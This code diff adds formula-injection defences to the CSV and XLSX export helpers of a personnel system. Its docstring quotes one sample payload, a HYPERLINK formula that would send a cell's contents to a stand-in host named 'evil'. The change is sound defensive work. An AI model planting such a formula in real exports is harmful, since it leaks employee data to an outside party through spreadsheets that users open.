@@ -1,8 +1,24 @@
-"""Streaming CSV and XLSX exports (flat memory; the caller has applied scope)."""
+"""Streaming CSV and XLSX exports (flat memory; the caller has applied scope), and the one
+rule every spreadsheet writer of SIMASN follows against formula injection.
+
+A value that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
+spreadsheet programs as a formula (or a DDE call): an operator who names an employee
+`=HYPERLINK("https://evil/?"&A2, "klik")` would run it in every export a national user
+opens. So:
+- CSV (no cell types): such a text gets a leading apostrophe (`escape_formula`), which
+  spreadsheet programs take as "text follows" (OWASP's advice for CSV injection).
+- XLSX: every text is written as a text cell, never a formula, and such a text carries
+  Excel's quote prefix, so it stays text even when the cell is edited (`xlsx_row`,
+  `xlsx_cell`): the visible text is exactly the value.
+Every CSV and XLSX writer (web lists, the national export, the retirement projection,
+the import reject report, the work-plan workbooks) goes through these functions.
+"""
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
+import decimal
 import io
 from collections.abc import Callable, Iterable, Iterator
 from typing import Any
@@ -17,11 +33,62 @@ class _Echo:
         return value
 
 
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(value: Any) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
+
+
+def escape_formula(value: Any) -> Any:
+    """A CSV cell: numbers stay numbers, None is empty, a formula-like text gets a `'`."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, int | float | decimal.Decimal):
+        return value
+    text = str(value)
+    return "'" + text if formula_like(text) else text
+
+
+def escape_row(values: Iterable[Any]) -> list[Any]:
+    return [escape_formula(value) for value in values]
+
+
+def xlsx_cell(sheet: Any, value: Any) -> Any:
+    """An XLSX cell for `sheet` (write-only or not): text is always a text cell."""
+    from openpyxl.cell import Cell, WriteOnlyCell
+
+    if isinstance(value, str) or (value is not None and not isinstance(value, _XLSX_NATIVE)):
+        text = str(value)
+        cell = WriteOnlyCell(sheet, value=text) if _write_only(sheet) else Cell(sheet, value=text)
+        cell.data_type = "s"  # openpyxl would store a text beginning with "=" as a formula
+        if formula_like(text):
+            cell.quotePrefix = True
+        return cell
+    return value
+
+
+def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
+    """A row for `sheet.append`, every text made safe by `xlsx_cell`."""
+    return [xlsx_cell(sheet, value) for value in values]
+
+
+_XLSX_NATIVE = (bool, int, float, decimal.Decimal, dt.date, dt.datetime, dt.time)
+
+
+def _write_only(sheet: Any) -> bool:
+    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+
+    return isinstance(sheet, WriteOnlyWorksheet)
+
+
 def csv_rows(columns: list[Column], rows: Iterable[Any]) -> Iterator[str]:
     writer = csv.writer(_Echo())
-    yield "\ufeff" + writer.writerow([str(label) for label, _ in columns])
+    yield "\ufeff" + writer.writerow(escape_row(str(label) for label, _ in columns))
     for row in rows:
-        yield writer.writerow([_cell(get(row)) for _, get in columns])
+        yield writer.writerow(escape_row(get(row) for _, get in columns))
 
 
 def _cell(value: Any) -> Any:
@@ -44,9 +111,9 @@ def xlsx_bytes(columns: list[Column], rows: Iterable[Any], title: str = "Data") 
 
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=title[:31])
-    sheet.append([str(label) for label, _ in columns])
+    sheet.append(xlsx_row(sheet, [str(label) for label, _ in columns]))
     for row in rows:
-        sheet.append([_cell(get(row)) for _, get in columns])
+        sheet.append(xlsx_row(sheet, [_cell(get(row)) for _, get in columns]))
     buffer = io.BytesIO()
     workbook.save(buffer)
     return buffer.getvalue()
